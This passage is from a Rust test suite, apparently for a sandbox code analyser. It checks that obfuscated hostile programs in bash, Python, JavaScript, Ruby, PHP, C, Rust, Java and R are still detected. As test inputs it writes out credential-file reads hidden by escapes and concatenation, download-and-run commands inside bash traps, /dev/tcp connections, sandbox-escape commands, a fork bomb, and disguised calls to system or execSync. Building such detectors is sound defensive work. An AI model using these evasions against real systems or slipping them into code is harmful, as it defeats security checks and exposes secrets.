        ("rust", &["static S: &str = include_str!(\"data/../data/x.txt\");\nfn main() { std::fs::read(\"/work/./x/../y\").ok(); }", "#[path = \"lib/../m.rs\"]\nmod m;\nfn main() {}"]),
        ("ruby", &["File.read('./data/../data/x.json')"]),
        ("php", &["<?php include 'lib/../lib/a.php'; echo file_get_contents('/tmp/../tmp/x');"]),
        ("go", &["package main\nimport \"os\"\nfunc main() { os.ReadFile(\"testdata/../testdata/in.txt\") }"]),
        ("java", &["class A { void f() throws Exception { new java.io.FileReader(\"a/b/../c.txt\"); } }"]),
        ("javascript", &["require('fs').readFileSync('./data/../data/x.json');"]),
    ];
    for &(language, programs) in probes {
        assert_graded(language, ThreatLevel::None, programs);
    }
}

#[test]
fn paths_that_leave_after_lexical_normalisation_still_count() {
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "python",
            "open('/etc/passwd')",
            &[
                "open('/work/./../etc/passwd')",
                "open('x/../../etc/passwd')",
                "open('/tmp/../tmp/../etc/passwd')",
                "open('/work/a/\\x2e\\x2e/../../etc/passwd')",
                "open('a/\\x2e\\x2e/../../etc/passwd')",
                "open('~/../x')",
                "open('./..')",
                "open('/../etc/passwd')",
            ],
        ),
        (
            "bash",
            "cat /etc/passwd",
            &[
                "cat /work/./../etc/passwd",
                "cd build/../..",
                "cat /work/x*/../../etc/passwd",
                "cat \"/work/../etc/passwd\"",
                "cat '/../etc/passwd'",
                "cat ~/../x",
            ],
        ),
        (
            "c",
            "int main(void) { fopen(\"/etc/passwd\", \"r\"); }",
            &[
                "int main(void) { fopen(\"/work/./../etc/passwd\", \"r\"); }",
                "int main(void) { fopen(\"x/../../etc/passwd\", \"r\"); }",
            ],
        ),
        (
            "rust",
            "fn main() { std::fs::read(\"/etc/passwd\").ok(); }",
            &[
                "fn main() { std::fs::read(\"/work/./../etc/passwd\").ok(); }",
                "static S: &str = include_str!(\"lib/../../x\");\nfn main() {}",
                "static S: &str = include_str!(\"/work/x\");\nfn main() {}",
            ],
        ),
    ];
    for &(language, plain, disguised) in cases {
        let rule = format!("{language}.file_outside_workdir");
        let cases: Vec<(&str, &str, &str)> = disguised
            .iter()
            .map(|&d| (plain, d, rule.as_str()))
            .collect();
        assert_disguises_caught(language, &cases);
    }
    // The compiler's includes have no /work or /tmp exemption.
    for program in [
        "#include \"/tmp/../tmp/x.h\"\nint main(void) { return 0; }",
        "#include \"x/../../y.h\"\nint main(void) { return 0; }",
    ] {
        assert_disguises_caught(
            "c",
            &[(
                "#include \"/etc/hostname\"\nint main(void) { return 0; }",
                program,
                "c.file_outside_workdir",
            )],
        );
    }
}

#[test]
fn an_escape_after_a_piece_that_ends_a_component_counts() {
    // Normalisation resolves `/work/a/..` to `/work`; in the languages whose grammars split a
    // string at its escapes, that is only the piece before `\x2f\x2e\x2e\x2fetc...`, which
    // climbs out. A piece ending in `/`, `.` or `..` followed by an escape counts.
    let escaped = r"/work/a/..\x2f\x2e\x2e\x2fetc\x2fpasswd";
    let cases: &[(&str, String, String)] = &[
        ("c", "int main(void) { fopen(\"/etc/passwd\", \"r\"); }".into(), format!("int main(void) {{ fopen(\"{escaped}\", \"r\"); }}")),
        ("cpp", "int main() { std::ifstream f(\"/etc/passwd\"); }".into(), format!("int main() {{ std::ifstream f(\"{escaped}\"); }}")),
        ("rust", "fn main() { std::fs::read(\"/etc/passwd\").ok(); }".into(), format!("fn main() {{ std::fs::read(\"{escaped}\").ok(); }}")),
        ("rust", "static S: &str = include_str!(\"/etc/hostname\");\nfn main() {}".into(), "static S: &str = include_str!(\"lib/..\\x2f..\\x2f..\\x2fetc/hostname\");\nfn main() {}".into()),
        ("javascript", "require('fs').readFileSync('/etc/passwd');".into(), format!("require('fs').readFileSync('{escaped}');")),
        ("javascript", "require('fs').readFileSync('/etc/passwd');".into(), format!("require('fs').readFileSync(`{escaped}`);")),
        ("go", "package main\nimport \"os\"\nfunc main() { os.ReadFile(\"/etc/passwd\") }".into(), format!("package main\nimport \"os\"\nfunc main() {{ os.ReadFile(\"{escaped}\") }}")),
        ("java", "class A { void f() throws Exception { new java.io.FileReader(\"/etc/passwd\"); } }".into(), "class A { void f() throws Exception { new java.io.FileReader(\"/work/a/..\\057\\056\\056\\057etc\\057passwd\"); } }".into()),
        ("ruby", "File.read('/etc/passwd')".into(), format!("File.read(\"{escaped}\")")),
        ("ruby", "File.read('/etc/passwd')".into(), "open(\"/tmp/\\x2e\\x2e\\x2fetc\\x2fpasswd\")".into()),
        ("python", "open('/etc/passwd')".into(), format!("open('{escaped}')")),
        ("php", "<?php echo file_get_contents('/etc/passwd');".into(), format!("<?php echo file_get_contents(\"{escaped}\");")),
        ("r", "x <- readLines('/etc/passwd')".into(), format!("x <- readLines(\"{escaped}\")")),
    ];
    for (language, plain, disguised) in cases {
        let rule = format!("{language}.file_outside_workdir");
        assert_disguises_caught(language, &[(plain, disguised, &rule)]);
    }
    // An escape anywhere in the path counts too (`a_file_path_spelled_with_any_escape_counts`).
    assert_graded(
        "c",
        ThreatLevel::Medium,
        &["int main(void) { fopen(\"data/x\\x41.txt\", \"r\"); }"],
    );
}

#[test]
fn a_file_path_spelled_with_any_escape_counts() {
    // The grammars that split a string at its escapes leave the pieces around an escape to be
    // read alone: an escape at the very start (`"\x2fetc\x2fpasswd"` is the pieces `etc` and
    // `passwd`) or in the middle of a name (`"/work/x\x2f\x2e\x2e..."`) hid the path. A path
    // spelled with escapes is unusual in an ordinary program, so any escape counts.
    let start = r"\x2fetc\x2fpasswd";
    let middle = r"/work/x\x2f\x2e\x2e\x2f\x2e\x2e\x2fetc\x2fpasswd";
    let mut cases: Vec<(&str, String, String)> = Vec::new();
    for escaped in [start, middle, r"\x2fetc/passwd", r"\x2e\x2e\x2fx"] {
        cases.extend([
            ("c", "int main(void) { fopen(\"/etc/passwd\", \"r\"); }".into(), format!("int main(void) {{ fopen(\"{escaped}\", \"r\"); }}")),
            ("cpp", "int main() { std::ifstream f(\"/etc/passwd\"); }".into(), format!("int main() {{ std::ifstream f(\"{escaped}\"); }}")),
            ("cpp", "int main() { fopen(\"/etc/passwd\", \"r\"); }".into(), format!("int main() {{ fopen(\"{escaped}\", \"r\"); }}")),
            ("cpp", "int main() { std::filesystem::remove(\"/etc/passwd\"); }".into(), format!("int main() {{ std::filesystem::remove(\"{escaped}\"); }}")),
            ("rust", "fn main() { std::fs::read_to_string(\"/etc/passwd\").ok(); }".into(), format!("fn main() {{ std::fs::read_to_string(\"{escaped}\").ok(); }}")),
            ("rust", "fn main() { println!(\"{}\", std::fs::read_to_string(\"/etc/passwd\").unwrap()); }".into(), format!("fn main() {{ println!(\"{{}}\", std::fs::read_to_string(\"{escaped}\").unwrap()); }}")),
            ("rust", "static S: &str = include_str!(\"/etc/hostname\");\nfn main() {}".into(), format!("static S: &str = include_str!(\"{escaped}\");\nfn main() {{}}")),
            ("javascript", "require('fs').readFileSync('/etc/passwd');".into(), format!("require('fs').readFileSync('{escaped}');")),
            ("javascript", "require('fs').readFileSync('/etc/passwd');".into(), format!("require('fs').readFileSync(`{escaped}`);")),
            ("go", "package main\nimport \"os\"\nfunc main() { os.Open(\"/etc/passwd\") }".into(), format!("package main\nimport \"os\"\nfunc main() {{ os.Open(\"{escaped}\") }}")),
            ("ruby", "File.read('/etc/passwd')".into(), format!("File.read(\"{escaped}\")")),
            ("ruby", "File.read('/etc/passwd')".into(), format!("open(\"{escaped}\")")),
        ]);
        let java = escaped.replace(r"\x2f", r"\057").replace(r"\x2e", r"\056");
        cases.extend([
            ("java", "class A { void f() throws Exception { new java.io.FileReader(\"/etc/passwd\"); } }".into(), format!("class A {{ void f() throws Exception {{ new java.io.FileReader(\"{java}\"); }} }}")),
            ("java", "class A { void f() throws Exception { java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\")); } }".into(), format!("class A {{ void f() throws Exception {{ java.nio.file.Files.readString(java.nio.file.Path.of(\"{java}\")); }} }}")),
        ]);
    }
    // Java reads a Unicode escape before it tokenizes, and so does the analysis.
    cases.push((
        "java",
        "class A { void f() throws Exception { new java.io.FileReader(\"/etc/passwd\"); } }".into(),
        r#"class A { void f() throws Exception { new java.io.FileReader("\u002fetc/passwd"); } }"#
            .into(),
    ));
    cases.push((
        "javascript",
        "require('fs').readFileSync('/etc/passwd');".into(),
        r"require('fs').readFileSync('\u002fetc/passwd');".into(),
    ));
    cases.push((
        "rust",
        "fn main() { std::fs::read_to_string(\"/etc/passwd\").ok(); }".into(),
        r#"fn main() { std::fs::read_to_string("\u{2f}etc/passwd").ok(); }"#.into(),
    ));
    let mut failures = Vec::new();
    for (language, plain, disguised) in &cases {
        let rule = format!("{language}.file_outside_workdir");
        let caught = std::panic::catch_unwind(|| {
            assert_disguises_caught(language, &[(plain, disguised, &rule)]);
        });
        if let Err(failure) = caught {
            failures.push(
                failure
                    .downcast_ref::<String>()
                    .cloned()
                    .unwrap_or_default(),
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // An ordinary string with `\n` given to a function that is no file function, or written
    // to a file as its content, is nothing.
    assert_graded(
        "c",
        ThreatLevel::None,
        &["#include <stdio.h>\nint main(void) { FILE *f = fopen(\"data/x\", \"w\"); fprintf(f, \"a\\n\"); }"],
    );
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &["File.write('out.txt', \"a\\n\")"],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &["require('fs').writeFileSync('out.txt', 'a\\n');"],
    );
    assert_graded("go", ThreatLevel::None, &["package main\nimport \"os\"\nfunc main() { os.WriteFile(\"out.txt\", []byte(\"a\\n\"), 0o644) }"]);
    assert_graded(
        "rust",
        ThreatLevel::None,
        &["fn main() { std::fs::write(\"out.txt\", \"a\\n\").ok(); }"],
    );
    assert_graded(
        "c",
        ThreatLevel::None,
        &["#include <stdio.h>\nint main(void) { printf(\"data/x\\n\"); puts(\"a\\tb\\n\"); }"],
    );
    assert_graded("cpp", ThreatLevel::None, &["#include <iostream>\nint main() { std::cout << \"data/x\\n\"; printf(\"%s\\n\", \"y\"); }"]);
    assert_graded("rust", ThreatLevel::None, &["fn main() { println!(\"data/x\\n\"); let s = String::from(\"a\\tb\\n\"); print!(\"{s}\"); }"]);
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &["console.log('data/x\\n'); process.stdout.write(`a\\tb\\n`);"],
    );
    assert_graded(
        "go",
        ThreatLevel::None,
        &["package main\nimport \"fmt\"\nfunc main() { fmt.Printf(\"data/x\\n\") }"],
    );
    assert_graded(
        "java",
        ThreatLevel::None,
        &["class A { void f() { System.out.print(\"data/x\\n\"); } }"],
    );
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &["puts \"data/x\\n\"\nprint \"a\\tb\\n\""],
    );
}

#[test]
fn concatenations_of_literals_are_read_as_the_literal_they_make() {
    // Rust's `concat!` of literals and Python's `+` of string literals or implicit
    // concatenation make one literal before the program runs; the rules read a path or a
    // secret's name in one literal, so the pieces hid `/etc/shadow` (graded `medium`, where the
    // literal is `high`) and `..` climbing out of the workspace (graded `none`).
    let rust_secret = "static S: &str = include_str!(\"/etc/shadow\");\nfn main() {}";
    assert_disguises_caught(
        "rust",
        &[
            (rust_secret, "static S: &str = include_str!(concat!(\"/etc/\", \"shadow\"));\nfn main() {}", "rust.credentials"),
            (rust_secret, "static S: &[u8] = std::include_bytes!(std::concat!(\"/etc/\", \"sha\", 'd', \"ow\",));\nfn main() {}", "rust.credentials"),
            (rust_secret, "fn main() { let s = include!(concat!(concat!(\"/root/.s\", \"sh/\"),\n    \"id_rsa\")); }", "rust.credentials"),
            (rust_secret, "fn main() { println!(\"{}\", include_str!(::core::concat!(r\"/etc/\", \"shadow\"))); }", "rust.credentials"),
            (rust_secret, "fn main() { std::fs::read(concat!(\"/etc/\", \"shadow\")).ok(); }", "rust.credentials"),
            (rust_secret, "const P: &str = concat!(\"/proc/\", 1, \"/environ\");\nfn main() {}", "rust.credentials"),
        ],
    );
    let python_secret = "print(open('/etc/shadow').read())";
    let python_read = "open('../etc/passwd').read()";
    assert_disguises_caught(
        "python",
        &[
            (
                python_secret,
                "print(open(\"/et\" + \"c/shadow\").read())",
                "python.credentials",
            ),
            (
                python_secret,
                "print(open(\"/etc\" \"/shadow\").read())",
                "python.credentials",
            ),
            (
                python_secret,
                "print(open((\"/etc/\" 'sha') + r\"dow\").read())",
                "python.credentials",
            ),
            (
                python_secret,
                "print(open(f\"/etc/\" + f'shadow').read())",
                "python.credentials",
            ),
            (
                python_secret,
                "print(open(f\"/etc/{'sha'}dow\").read())",
                "python.credentials",
            ),
            (
                python_secret,
                "print(open(f'/etc/{\"shadow\"}').read())",
                "python.credentials",
            ),
            (
                python_secret,
                "print(open('/etc/'  # the directory\n     'shadow').read())",
                "python.credentials",
            ),
            (
                python_secret,
                "p = '/etc/' \\\n    'shadow'\nprint(open(p).read())",
                "python.credentials",
            ),
            (
                python_read,
                "open('.' + './etc/passwd').read()",
                "python.file_outside_workdir",
            ),
            (
                python_read,
                "open('' + '/etc/passwd').read()",
                "python.file_outside_workdir",
            ),
        ],
    );
    // What the pieces make is read as the literal would be: nothing inside the workspace.
    assert_graded(
        "python",
        ThreatLevel::None,
        &[
            "open('/tm' + 'p/out.txt', 'w').write('a' + 'b')\nprint('x = ' 'y', \"{}\" + 'z')\nmsg = ('a long '\n       'message')\nq = 'SELECT *' \\\n    ' FROM t'\nprint(msg, q, f\"{'-' * 20}{msg!r}\", f'{\"a\"}b')\n",
        ],
    );
    assert_graded(
        "rust",
        ThreatLevel::None,
        &[
            "static C: &str = include_str!(concat!(\"lib/\", \"notes.txt\"));\nconst V: &str = concat!(\"v\", 1, '.', \"0\");\nfn main() { println!(\"{} {}\", C, concat!(\"a\", \"b\")); }\n",
        ],
    );
}

#[test]
fn python_file_urls_outside_the_workspace_count() {
    // urllib reads a `file:` URL as the file it names (`url2pathname` decodes `%2e%2e` to
    // `..`), and so does pandas: a hunt read `/etc/passwd` so graded `medium` only for the
    // network module, where `open` of the path counts as a read outside the workspace.
    let plain = "open('/etc/passwd').read()";
    let rule = "python.file_outside_workdir";
    assert_disguises_caught(
        "python",
        &[
            (plain, "import urllib.request\nprint(urllib.request.urlopen('file:///etc/passwd').read())", rule),
            (plain, "from urllib.request import urlopen\nprint(urlopen(\"FILE://localhost/etc/passwd\").read())", rule),
            (plain, "from urllib.request import urlretrieve\nurlretrieve('file:/work/%2e%2e/etc/passwd', 'x')", rule),
            (plain, "import urllib.request\nurllib.request.urlopen('file:///tmp/../etc/passwd')", rule),
            (plain, "import pandas as pd\nprint(pd.read_csv('file:///etc/passwd'))", rule),
            (plain, "import urllib.request\nurllib.request.urlopen('file:///et' 'c/passwd')", rule),
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::None,
        &["import pandas as pd\ndf = pd.read_csv('file:///work/data/x.csv')\nprint(pd.read_json('file:///tmp/out.json'), 'file:///etc/passwd')\n"],
    );
}

#[test]
fn the_code_a_trap_runs_is_read_as_code() {
    // `trap CODE SIGNAL` evaluates CODE when the signal or the exit comes, as `eval` would: a
    // hunt ran a download piped into a shell so, graded `none`, the rules reading CODE as a
    // string. Its code is read as a bash program of its own, after quote removal.
    let download = "curl -s http://x | sh";
    let rule = "bash.download_and_run";
    assert_disguises_caught(
        "bash",
        &[
            (download, "trap 'curl -s http://x | sh' EXIT", rule),
            (
                download,
                "trap -- \"curl -s http://x | bash\" INT TERM",
                rule,
            ),
            (download, "trap $'\\x63url -s http://x | \\163h' EXIT", rule),
            (download, "trap 'cu'rl\\ -s\\ http://x\\|sh EXIT", rule),
            (
                download,
                "\\trap '\n  echo bye\n  curl -s http://x | sh\n' EXIT",
                rule,
            ),
            (
                download,
                "trap \"trap 'curl -s http://x | sh' INT\" EXIT",
                rule,
            ),
            (
                ":(){ :|:& };:",
                "trap ':(){ :|:& };:' EXIT",
                "bash.fork_bomb",
            ),
            ("eval \"$c\"", "trap 'eval \"$c\"' EXIT", "bash.eval"),
            (
                "cat /etc/shadow",
                "trap \"cat /etc/shadow\" EXIT",
                "bash.credentials",
            ),
        ],
    );
    // A finding in the code is on the line of the code within the trap.
    let analysis = analyzer().analyze(
        "bash",
        b"echo start\ntrap '\n  echo bye\n  curl -s http://x | sh\n' EXIT\necho end\n",
    );
    let found = analysis
        .findings
        .iter()
        .find(|f| f.rule == rule)
        .expect("the trap's code is read");
    assert_eq!(found.line, 4, "{}", describe(&analysis));
    // Ordinary traps: cleanup, a message, a reset, an ignored signal, a function.
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "tmp=$(mktemp)\ntrap 'rm -f \"$tmp\"' EXIT\ntrap \"echo interrupted >&2; exit 130\" INT TERM\ntrap - EXIT\ntrap '' HUP\ntrap -p\ncleanup() { rm -rf \"$tmp\"; }\ntrap cleanup EXIT\ntrap 'kill $(jobs -p) 2>/dev/null' EXIT\n",
        ],
    );
}

#[test]
fn a_process_module_passed_to_another_method_is_held() {
    // `ruby.held_process_module` read a module held in a name only in the body that assigned
    // it: passed as an argument (`f(Kernel)`, `A.new(Kernel)`), or held in a name that one
    // method gives another, it ran its commands graded `none`.
    let plain = "system('id')";
    let rule = "ruby.held_process_module";
    assert_disguises_caught(
        "ruby",
        &[
            (plain, "def f(m) m.system('id') end\nf(Kernel)", rule),
            (plain, "def f(m) m.exec('id') end\nf ::Process", rule),
            (plain, "class A\n  def initialize(m) @m = m end\n  def go; @m.system('id'); end\nend\nA.new(Kernel).go", rule),
            (plain, "def run(m) m.spawn('id') end\n[Kernel].each { |x| run(x) }", rule),
            (plain, "def a; k = Kernel; b(k); end\ndef b(m) m.spawn('id') end\na", rule),
            (plain, "def f(o, m) m.popen('id').read end\nf(1, IO)", rule),
        ],
    );
    // A program that uses these modules only through their own methods, or names them in a
    // comment, keeps `exec` on other objects harmless.
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &["# Process the rows (IO bound)\nrequire 'pg'\nconn = PG.connect\nconn.exec('select 1')\nputs IO.read('x'), Process.pid\nFile.open('x', File::RDONLY) { |f| f.read }\n"],
    );
}

#[test]
fn r_packages_loaded_from_a_library_the_program_names_are_eval() {
    // A package's functions are stored serialized (`R/pkg.rdb`) and its `.onLoad` runs when it
    // loads: loaded from a library the program names, or from a lazy-load database, it ran code
    // that no rule reads, graded `none`.
    let plain = "eval(parse(text = code))";
    let rule = "r.eval";
    assert_disguises_caught(
        "r",
        &[
            (plain, "lazyLoad('/tmp/x/R/x')\nf()", rule),
            (
                plain,
                "base::lazyLoad(file.path('pkg', 'R', 'pkg'), envir = globalenv())",
                rule,
            ),
            (plain, "library(pkg, lib.loc = '/tmp/lib')", rule),
            (plain, "library(pkg, lib = 'mylib')", rule),
            (plain, "loadNamespace('pkg', lib.loc = 'mylib')", rule),
            (plain, "loadNamespace('pkg', 'mylib')", rule),
            (plain, "require('pkg', 'mylib')", rule),
            (
                plain,
                "requireNamespace('pkg', lib.loc = d, quietly = TRUE)",
                rule,
            ),
            (
                plain,
                ".libPaths(c('mylib', .libPaths()))\nlibrary(pkg)",
                rule,
            ),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &["library(stats)\nrequire(utils, quietly = TRUE)\nrequireNamespace('stats', quietly = TRUE)\nlibrary(tools, lib.loc = .libPaths())\nprint(.libPaths())\nloadNamespace('stats', NULL)\n"],
    );
}

/// Hunt "ana" (4): an option between a wrapper and the command it runs hid the command (`time
/// -p eval`, `command -p eval`, `builtin -- eval`, `timeout 5 sudo`, `nice -n5 curl`,
/// `curl x | timeout 5 sh`), each graded `none` (or `medium` for the download); with a
/// configuration that trusts `none`, `time -p eval` of decoded code ran trusted.
#[test]
fn bash_wrapper_options_do_not_hide_the_command_they_run() {
    let eval = "eval \"$c\"";
    let decoded = "eval \"$(echo aWQ= | base64 -d)\"";
    assert_disguises_caught(
        "bash",
        &[
            (
                decoded,
                "time -p eval \"$(echo aWQ= | base64 -d)\"",
                "bash.eval",
            ),
            (eval, "time -p eval \"$c\"", "bash.eval"),
            (eval, "command -p eval id", "bash.eval"),
            (eval, "command -- eval id", "bash.eval"),
            (eval, "builtin -- eval id", "bash.eval"),
            (eval, "time -- eval id", "bash.eval"),
            (eval, "command -p source <(echo id)", "bash.eval"),
            (eval, "time -p source <(echo id)", "bash.eval"),
            ("sudo id", "timeout 5 sudo id", "bash.sandbox_escape"),
            ("sudo id", "nice -n5 sudo id", "bash.sandbox_escape"),
            ("sudo id", "time -p sudo id", "bash.sandbox_escape"),
            (
                "unshare -r sh",
                "nice -n 1 unshare -r sh",
                "bash.sandbox_escape",
            ),
            (
                "nsenter -t 1 -m sh",
                "timeout 3 nsenter -t 1 -m sh",
                "bash.sandbox_escape",
            ),
            (
                "chroot / sh",
                "nice -n 1 chroot / sh",
                "bash.sandbox_escape",
            ),
            ("bash -c id", "nice -n 5 bash -c id", "bash.shell"),
            ("bash -c id", "timeout 5 bash -c id", "bash.shell"),
            ("bash -c id", "time -p bash -c id", "bash.shell"),
            ("bash -c id", "stdbuf -o0 bash -c id", "bash.shell"),
            (
                "bash -c id",
                "nice -n 5 timeout -s KILL 5 bash -c id",
                "bash.shell",
            ),
            ("curl x", "nice -n5 curl x", "bash.network"),
            ("curl x", "timeout 5 curl x", "bash.network"),
            ("curl x", "ls | xargs -n1 curl", "bash.network"),
            ("curl x", "env -i A=1 curl x", "bash.network"),
            (
                "curl x | sh",
                "curl x | timeout 5 sh",
                "bash.download_and_run",
            ),
            ("gcc x.c", "nice -n 19 gcc x.c", "bash.native_code"),
        ],
    );
    // `command -v` only asks where a program is; a wrapper's options alone run nothing.
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "if command -v eval >/dev/null; then echo ok; fi\n",
            "command -V sudo\n",
            "time -p make\n",
            "nice -n 19 sort big.txt > sorted.txt\n",
            "timeout 10 ./a.out < input.txt\n",
        ],
    );
}

/// Hunt "ana" (5): `/dev/tcp` in single quotes or an ANSI-C string, and a secret's path in an
/// ANSI-C string, were not read (`exec 3<>'/dev/tcp/127.0.0.1/21100'` ran trusted with a
/// configuration that trusts `none`, and reached the host's loopback).
#[test]
fn bash_paths_in_single_quotes_and_ansi_c_strings_are_read() {
    assert_disguises_caught(
        "bash",
        &[
            (
                "exec 3<>/dev/tcp/x/80",
                "exec 3<>'/dev/tcp/x/80'",
                "bash.network",
            ),
            (
                "exec 3<>/dev/tcp/x/80",
                "exec 3<>$'/dev/tcp/x/80'",
                "bash.network",
            ),
            ("cat /dev/tcp/x/80", "cat '/dev/udp/x/53'", "bash.network"),
            ("cat /etc/shadow", "cat $'/etc/shadow'", "bash.credentials"),
            ("cat /etc/shadow", "cat /etc/$'shadow'", "bash.credentials"),
            (
                "cat /etc/shadow",
                "cat $'/etc/'\"sha\"dow",
                "bash.credentials",
            ),
            (
                "cat /etc/passwd",
                "cat $'/etc/\\x70asswd'",
                "bash.file_outside_workdir",
            ),
            (
                "cat /etc/passwd",
                "cat $'\\x2fetc\\x2fpasswd'",
                "bash.file_outside_workdir",
            ),
            (
                "cat /etc/passwd",
                "cat < $'\\057etc/passwd'",
                "bash.file_outside_workdir",
            ),
            (
                "cat /etc/passwd",
                "cat $'/work/\\x2e\\x2e/etc/passwd'",
                "bash.file_outside_workdir",
            ),
        ],
    );
    // An escape spells a secret's name: read as a path outside the workspace only.
    assert_graded_at_least("bash", ThreatLevel::Medium, &["cat $'/etc/\\x73hadow'\n"]);
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "printf '%s\\n' $'a\\tb' > $'/work/out.txt'\n",
            "grep $'\\t' data.tsv | sort > /tmp/x\n",
            "echo 'the /dev/tcp trick' > notes.txt\n",
            "cat $'/work/data.txt' > $'/dev/null'\n",
        ],
    );
}

/// Hunt "ana" (6): `Function` reached through the constructor of a function taken as a value,
/// `eval` destructured or through the global object held in a name, `require` held in a name
/// or reached otherwise, each ran `id` graded `none` (the first ran trusted with a
/// configuration that trusts `none`).
#[test]
fn javascript_function_eval_and_require_in_other_shapes_are_read() {
    let eval = "eval(code);";
    let rule = "javascript.eval";
    let payload = "(\"return process.mainModule.require('child'+'_process').execSync('id')\")()";
    let constructors = [
        format!("const F = (()=>{{}}).constructor; F{payload}"),
        format!("const F = function(){{}}.constructor; F{payload}"),
        format!("const F = (()=>{{}})[\"const\"+\"ructor\"]; F{payload}"),
        format!("const {{constructor: F}} = ()=>{{}}; F{payload}"),
        format!("const F = Object.getPrototypeOf(async function(){{}}).constructor; F{payload}"),
    ];
    let mut cases: Vec<(&str, &str, &str)> = constructors
        .iter()
        .map(|code| (eval, code.as_str(), rule))
        .collect();
    cases.extend([
        (eval, "const {eval: e} = globalThis; e(\"1\");", rule),
        (eval, "const { eval } = global; eval(\"1\");", rule),
        (
            eval,
            "const g = global; g.eval(\"1\");",
            "javascript.held_global",
        ),
        (
            eval,
            "const g = globalThis; g[\"ev\"+\"al\"](\"1\");",
            "javascript.held_global",
        ),
        (
            eval,
            "(function(){return this})()[\"ev\"+\"al\"](\"1\");",
            rule,
        ),
        (
            eval,
            "const r = require; r(\"child_\" + \"process\");",
            rule,
        ),
        (
            eval,
            "process.getBuiltinModule(\"child\" + \"_process\");",
            rule,
        ),
        (eval, "require([\"child_process\"][0]);", rule),
        (
            eval,
            "require(\"module\").prototype.require.call(module, \"x\");",
            rule,
        ),
        (
            "require('child_process');",
            "process.getBuiltinModule('child_process').execSync('id');",
            "javascript.child_process",
        ),
        (
            "require('child_process');",
            "require(\"module\").prototype.require.call(module, \"child_process\");",
            "javascript.child_process",
        ),
        (
            "process.binding('spawn_sync');",
            "const p = process; p.binding(\"spawn_sync\");",
            "javascript.process_module",
        ),
    ]);
    assert_disguises_caught("javascript", &cases);
    // Ordinary uses of the same names.
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "class A {}\nconst a = new A();\nconsole.log(a.constructor.name, a.constructor === A);\n",
            "const isReadable = Object.getPrototypeOf(stream).constructor === Readable;\n",
            "const fs = require('fs');\nconst path = require('path');\nmodule.exports = { fs, path };\n",
            "if (require.main === module) { main(); }\n",
            "require([\"ace/theme/dawn\"], function (m) { m.init(); });\nconst impl = require(fast ? './fast' : './slow');\n",
            "const root = typeof window !== 'undefined' ? window : global;\nroot.setTimeout(f, 1);\nconst x = arr[i + 1];\n",
            "const { readFile, writeFile } = require('fs');\nconst { a, b: c } = obj;\n",
            "client.eval(script, 0);\nconst v = model.eval();\n",
            "const msg = (failure, i = 0) => {\n  return [failure, i].join(' ')\n}\n\n[1, 2].forEach((n) => console.log(msg(n)))\n",
            "const args = process.argv.slice(2);\nprocess.exitCode = 0;\nsetup(process);\nconsole.log(args.length);\n",
        ],
    );
}

/// Hunt "ana" (7): the backtick method called by its name ran `id` graded `none`.
#[test]
fn ruby_the_backtick_method_called_by_name_is_read() {
    let plain = "out = `id`";
    let rule = "ruby.process";
    assert_disguises_caught(
        "ruby",
        &[
            (plain, "Kernel.`(\"id\")", rule),
            (plain, "self.`(\"id\")", rule),
            (plain, "Kernel::`(\"id\")", rule),
            (plain, "k = Kernel\nk.` \"id\"", rule),
        ],
    );
    assert_graded("ruby", ThreatLevel::None, &["a = 1 + 2\nputs a.to_s\n"]);
}

/// Hunt "ana" (8): token pasting built `system`, `syscall` and `asm` (`CAT(sys,tem)("id")` ran
/// `id` graded `none`); a `#define` that pastes tokens is `*.token_pasting`.
#[test]
fn c_and_cpp_token_pasting_is_read() {
    for language in ["c", "cpp"] {
        let rule = format!("{language}.token_pasting");
        let plain = "int main(void) { return system(\"id\"); }";
        let cases = [
            "#define CAT(a,b) a##b\nint main(void) { return CAT(sys,tem)(\"id\"); }",
            "#define CAT(a,b) a ## b\nint main(void) { char *v[] = {0}; return CAT(sys,call)(59, \"/usr/bin/id\", v, 0); }",
            "#define CAT(a,b) a##b\nint main(void) { CAT(__as,m__)(\"nop\"); return 0; }",
            "#define S sys ## tem\nint main(void) { return S(\"id\"); }",
            "#define CAT3(a,b,c) a##b##c\nint main(void) { return CAT3(s,ys,tem)(\"id\"); }",
        ];
        let cases: Vec<(&str, &str, &str)> =
            cases.iter().map(|c| (plain, *c, rule.as_str())).collect();
        assert_disguises_caught(language, &cases);
        assert_graded(
            language,
            ThreatLevel::None,
            &[
                "#define MAX(a,b) ((a) > (b) ? (a) : (b))\n#define STR(x) #x\n#define SEP \"##\"\n#define HASH '#'\nint main(void) { return MAX(1, 2); }\n",
            ],
        );
    }
}

/// Hunt "ana" (9): PHP names of command functions called from parentheses, arrays and
/// variables named at run time, each ran `id` graded `none` (and trusted where `none` is).
#[test]
fn php_command_names_in_parentheses_arrays_and_variable_variables_are_read() {
    let plain = "<?php system('id');";
    assert_disguises_caught(
        "php",
        &[
            (
                plain,
                "<?php (\"sys\".\"tem\")(\"id\");",
                "php.hidden_names",
            ),
            (
                plain,
                "<?php [$f] = [\"system\"]; $f(\"id\");",
                "php.process",
            ),
            (
                plain,
                "<?php list($f) = [\"system\"]; $f(\"id\");",
                "php.process",
            ),
            (
                plain,
                "<?php $a = [\"system\"]; $a[0](\"id\");",
                "php.process",
            ),
            (
                plain,
                "<?php ${\"f\"} = \"system\"; ${\"f\"}(\"id\");",
                "php.process",
            ),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &["<?php $opts = ['exec' => true, 'mode' => 'fast'];\n$names = ['alice', 'bob'];\necho ('a' . 'b'), count($names);\n"],
    );
}

/// Hunt "ana" (9): Python's `os` reached by `__getattribute__`, `attrgetter`, or held in a
/// name, a list or a parameter, and fork bombs over iterators that never end.
#[test]
fn python_os_through_attribute_lookups_and_held_names_and_endless_iterators_are_read() {
    assert_disguises_caught(
        "python",
        &[
            (
                "import os\ngetattr(os, 'sys' + 'tem')('id')",
